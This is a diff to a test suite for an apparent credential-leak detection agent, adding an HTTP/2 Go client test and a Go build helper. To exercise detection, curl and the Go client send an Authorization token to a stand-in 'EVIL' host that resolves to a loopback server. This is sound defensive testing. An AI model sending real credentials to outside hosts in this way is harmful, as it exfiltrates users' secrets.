@@ -246,10 +246,11 @@ def test_tls_library_seen_without_loopback_capture():
     assert "ip" not in hits[0]["destination"]	# the socket was not tracked
 
 
-def _h2_curl(prefix, curl_args):
+def _h2_curl(prefix, curl_args, client=None):
     """An nghttpd on loopback (EVIL's name resolves to it) and an agent; curl_args(d, url,
-    common, token) gives curl's arguments, common being the options every request needs.
-    Returns (hits of the token, agent, curl's stdout), after the agent stopped."""
+    common, token) gives curl's arguments, common being the options every request needs, or
+    client(port, token) is the client instead of curl. Returns (hits of the token, agent,
+    curl's stdout or what client returned), after the agent stopped."""
     require_root()
     if not shutil.which("nghttpd"):
         raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
@@ -269,8 +270,12 @@ def _h2_curl(prefix, curl_args):
             f.write("Authorization: token %s\n" % token)
         common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
                   "/dev/null"]
-        r = subprocess.run(["curl", *curl_args(d, "https://%s:%d/" % (EVIL, port), common,
-                                               "@" + hdr)], capture_output=True, text=True)
+        if client:
+            out = client(port, token)
+        else:
+            out = subprocess.run(["curl", *curl_args(d, "https://%s:%d/" % (EVIL, port), common,
+                                                     "@" + hdr)],
+                                 capture_output=True, text=True).stdout
         hits = wait_own(agent, token, "credential-unexpected-destination")
     finally:
         if agent:
@@ -283,13 +288,73 @@ def _h2_curl(prefix, curl_args):
     assert hits[0]["network"]["protocol"] == "http2"
     assert hits[0]["destination"]["domain"] == EVIL and hits[0]["destination"]["port"] == port
     agent.assert_no_plaintext(token)
-    return hits, agent, r.stdout
+    return hits, agent, out
 
 
 def test_curl_http2_hpack():
     _, _, out = _h2_curl("cw-h2-", lambda d, url, common, hdr: [
         *common, "-w", "%{http_version}", "-H", hdr, url + "v1"])
     assert out == "2", out	# really HTTP/2
+
+
+GO_H2_CLIENT = r'''
+package main
+
+import (
+	"bytes"
+	"crypto/tls"
+	"io"
+	"net/http"
+	"os"
+	"time"
+)
+
+func do(c *http.Client, req *http.Request) {
+	req.Host = os.Args[2]
+	resp, err := c.Do(req)
+	if err != nil {
+		os.Exit(1)
+	}
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	if resp.ProtoMajor != 2 {
+		os.Exit(3)
+	}
+}
+
+func main() {
+	time.Sleep(500 * time.Millisecond)	// probed at its exec: see GO_CLIENT
+	tr := &http.Transport{ForceAttemptHTTP2: true,
+		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: os.Args[2]}}
+	c := &http.Client{Transport: tr}
+	up, _ := http.NewRequest("POST", "https://"+os.Args[1]+"/up",
+		bytes.NewReader(bytes.Repeat([]byte("u"), 2<<20)))
+	do(c, up)
+	req, _ := http.NewRequest("GET", "https://"+os.Args[1]+"/v1", nil)
+	req.Header.Set("Authorization", "token "+os.Getenv("TOKEN"))
+	do(c, req)
+}
+'''
+
+
+def test_go_http2_request_after_a_bulk_upload_on_the_same_connection():
+    """Go's HTTP/2 transport (its own framer, writing through a buffer to crypto/tls) uploads
+    2 MiB, then sends a request with a token on the same connection: past the payload budget,
+    the session is followed frame by frame to the request's HEADERS frame, never lost."""
+    d = tempfile.mkdtemp(prefix="cw-goh2-")
+    try:
+        _build_go(d, GO_H2_CLIENT)
+
+        hits, agent, rc = _h2_curl("cw-goh2-srv-", None,
+                                   client=lambda port, token: subprocess.run(
+                                       [os.path.join(d, "client"), "127.0.0.1:%d" % port, EVIL],
+                                       env={"TOKEN": token}, timeout=60).returncode)
+    finally:
+        shutil.rmtree(d, ignore_errors=True)
+    assert rc == 0, rc	# both requests over HTTP/2
+    assert hits[0]["tls"]["library"] == "go", hits[0]
+    followed, lost = h2_streams(agent)
+    assert followed >= 1 and lost == 0, agent.stderr()
 
 
 def test_curl_http2_request_after_a_bulk_upload_on_the_same_connection():
@@ -337,19 +402,25 @@ func main() {
 '''
 
 
-def _go_client(stripped):
+def _build_go(d, src, stripped=False):
+    """Build the Go program src in directory d as d/client (without a symbol table when
+    stripped), offline."""
     require_root()
     if not shutil.which("go"):
         raise Skip("go is not installed (scripts/setup installs golang-go)")
-    d = tempfile.mkdtemp(prefix="cw-go-")
     with open(os.path.join(d, "main.go"), "w") as f:
-        f.write(GO_CLIENT)
+        f.write(src)
     env = dict(os.environ, HOME=d, GOCACHE=os.path.join(d, "cache"), GOPATH=os.path.join(d, "gp"),
                GO111MODULE="off", CGO_ENABLED="0", GOFLAGS="")
     # -s -w: no symbol table; crypto/tls is then found through .gopclntab
     flags = ["-ldflags=-s -w"] if stripped else []
     subprocess.run(["go", "build", *flags, "-o", os.path.join(d, "client"), "main.go"], cwd=d,
                    env=env, check=True, capture_output=True, timeout=300)
+
+
+def _go_client(stripped):
+    d = tempfile.mkdtemp(prefix="cw-go-")
+    _build_go(d, GO_CLIENT, stripped)
     if stripped:
         syms = subprocess.run(["nm", os.path.join(d, "client")], capture_output=True, text=True)
         assert "crypto/tls" not in syms.stdout	# really stripped
